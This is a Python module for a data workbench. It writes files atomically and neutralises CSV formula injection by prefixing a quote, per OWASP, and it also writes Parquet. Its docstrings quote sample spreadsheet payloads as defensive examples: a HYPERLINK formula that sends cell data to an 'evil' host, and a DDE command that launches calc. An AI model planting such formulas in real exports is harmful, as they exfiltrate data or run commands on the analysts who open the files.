"""Writing files safely: atomic writes and the one CSV writer every export uses.

Atomic writes
    Every file is written to a temporary file in the target's directory, flushed to disk
    and moved into place with :func:`os.replace`, so a reader (a browser, a file sync, a
    crashed run, Excel) sees the old file or the new one, never half of one.

CSV formula injection
    A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
    as a formula (and some treat a leading tab or carriage return the same way), so a
    customer named ``=HYPERLINK("http://evil/?"&A1)`` in an export is an attack on the
    analyst who opens it. :func:`write_csv` neutralises such cells as OWASP recommends
    (https://owasp.org/www-community/attacks/CSV_Injection): it prefixes a single quote,
    which the spreadsheet shows as text. Rules:

    - only *text* cells (and column names) are changed; numbers stay numbers, so a
      negative amount is still written ``-12.5``;
    - a text cell that is a plain number (``"-12.5"``, ``"+3"``) is left as it is: a
      spreadsheet reads it as that number, nothing runs;
    - a text cell that already starts with quotes before a trigger character gets one
      more quote, so :func:`restore_cell` undoes the change exactly (the workbench reading
      back its own file gets the original ids).

Example
-------
>>> import tempfile, pathlib
>>> import pandas as pd
>>> d = pathlib.Path(tempfile.mkdtemp())
>>> frame = pd.DataFrame({"customer_id": ["=1+1", "C2"], "amount": [-12.5, 3.0]})
>>> print(write_csv(frame, d / "out.csv").read_text(), end="")
customer_id,amount
'=1+1,-12.5
C2,3.0
>>> restore_cell(neutralise_cell("@SUM(A1)"))
'@SUM(A1)'
"""

from __future__ import annotations

import contextlib
import csv
import os
import re
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import BinaryIO

import pandas as pd

__all__ = ["FORMULA_TRIGGERS", "atomic_write", "atomic_write_bytes", "atomic_write_text",
           "neutralise_cell", "neutralise_frame", "restore_cell", "restore_text_column",
           "write_csv"]

#: Leading characters that make a spreadsheet evaluate a cell (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_QUOTE = re.compile(r"^'*[=+\-@\t\r]")
_QUOTED = re.compile(r"^'+[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$")


def atomic_write(path: str | Path, write: Callable[[BinaryIO], object],
                 mode: int = 0o644) -> Path:
    """Create ``path`` by calling ``write(handle)`` on a temporary file, then renaming it.

    The temporary file (``.<name>.pid<PID>-<random>.tmp`` beside the target) is removed if
    ``write`` or the rename fails, so nothing half-written is ever left under ``path``.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    # The writer's PID in the name lets a later run remove what a killed one left behind
    # (collections_lab.reporting.runner.clean_stale_files).
    fd, tmp = tempfile.mkstemp(prefix=f".{path.name}.pid{os.getpid()}-", suffix=".tmp",
                               dir=path.parent)
    try:
        with os.fdopen(fd, "wb") as handle:
            write(handle)
            handle.flush()
            os.fsync(handle.fileno())
        os.chmod(tmp, mode)
        os.replace(tmp, path)
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(tmp)
        raise
    return path


def atomic_write_bytes(path: str | Path, data: bytes) -> Path:
    """Write ``data`` to ``path`` via a temporary file and an atomic rename."""
    return atomic_write(path, lambda handle: handle.write(data))


def atomic_write_text(path: str | Path, text: str) -> Path:
    """Write UTF-8 ``text`` to ``path`` atomically (see :func:`atomic_write`)."""
    return atomic_write_bytes(path, text.encode("utf-8"))


def neutralise_cell(value):
    """``value`` made safe to open in a spreadsheet (see the module notes).

    >>> neutralise_cell("=cmd|' /C calc'!A0"), neutralise_cell("-12.5"), neutralise_cell(-3)
    ("'=cmd|' /C calc'!A0", '-12.5', -3)
    """
    if isinstance(value, str) and _NEEDS_QUOTE.match(value) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def restore_cell(value):
    """Undo :func:`neutralise_cell` (for the workbench reading back its own files).

    >>> restore_cell("'=A1"), restore_cell("''=A1"), restore_cell("'quoted")
    ('=A1', "'=A1", "'quoted")
    """
    if isinstance(value, str) and _QUOTED.match(value):
        return value[1:]
    return value


def restore_text_column(values: pd.Series) -> pd.Series:
    """:func:`restore_cell` on a column of text, vectorised (unchanged when no cell starts
    with a quote, the usual case, at the cost of one scan).

    >>> restore_text_column(pd.Series(["'=A1", "C1", None])).tolist()
    ['=A1', 'C1', None]
    """
    quoted = values.str.startswith("'", na=False)
    if not quoted.any():
        return values
    out = values.copy()
    out[quoted] = values[quoted].map(restore_cell)
    return out


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are neutralised.

    Numeric, boolean and datetime columns are returned unchanged.
    """
    out = frame.copy()
    for col in out.columns:
        series = out[col]
        if pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
            out[col] = series.map(neutralise_cell, na_action="ignore")
    out.columns = [neutralise_cell(c) for c in out.columns]
    if not isinstance(out.index, pd.RangeIndex):
        out.index = out.index.map(neutralise_cell)
    return out


#: How every Parquet file the workbench writes stores its timestamps: microseconds.
#: pandas (through pyarrow) writes nanoseconds by default, and Spark refuses those
#: (``PARQUET_TYPE_ILLEGAL: INT64 (TIMESTAMP(NANOS,false))``), so a lake written by
#: :func:`write_parquet` or ``simulate_to_parquet`` could not be read by the Spark engine;
#: our dates are whole days or seconds, and a finer one raises instead of being truncated.
PARQUET_OPTIONS = {"coerce_timestamps": "us", "allow_truncated_timestamps": False}


def write_parquet(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write ``frame`` as Parquet (no index, microsecond timestamps: readable by DuckDB,
    Spark and pandas alike), appearing atomically; returns the path.

    >>> import tempfile, pyarrow.parquet as pq
    >>> path = write_parquet(pd.DataFrame({"paid_at": pd.to_datetime(["2025-03-01"])}),
    ...                      Path(tempfile.mkdtemp()) / "payments.parquet")
    >>> str(pq.read_schema(path).field("paid_at").type)
    'timestamp[us]'
    """
    return atomic_write(path, lambda handle: frame.to_parquet(handle, index=False,
                                                              **PARQUET_OPTIONS))


def write_csv(frame: pd.DataFrame, path: str | Path, *, date_format: str = "%Y-%m-%d",
              index: bool = False) -> Path:
    """Write ``frame`` as a UTF-8 CSV that is safe to open in a spreadsheet; returns the path.

    Text cells that a spreadsheet would run as a formula are neutralised (module notes),
    dates are written ``date_format`` (ISO by default), lines end in ``\\n`` and the file
    appears atomically. Every CSV the workbench writes goes through here.
    """
    safe = neutralise_frame(frame)
    # Python's csv module quotes a field holding "\n" but not a lone "\r" when lines end
    # in "\n"; such a cell would split its row for every reader, so then all text is quoted.
    quoting = csv.QUOTE_NONNUMERIC if _has_carriage_return(safe) else csv.QUOTE_MINIMAL
    return atomic_write(path, lambda handle: safe.to_csv(
        handle, index=index, date_format=date_format, lineterminator="\n", encoding="utf-8",
        quoting=quoting))


def _has_carriage_return(frame: pd.DataFrame) -> bool:
    cells = [*map(str, frame.columns)]
    for col in frame.columns:
        if pd.api.types.is_object_dtype(frame[col]) or pd.api.types.is_string_dtype(frame[col]):
            cells += [v for v in frame[col] if isinstance(v, str) and "\r" in v]
    return any("\r" in c for c in cells)
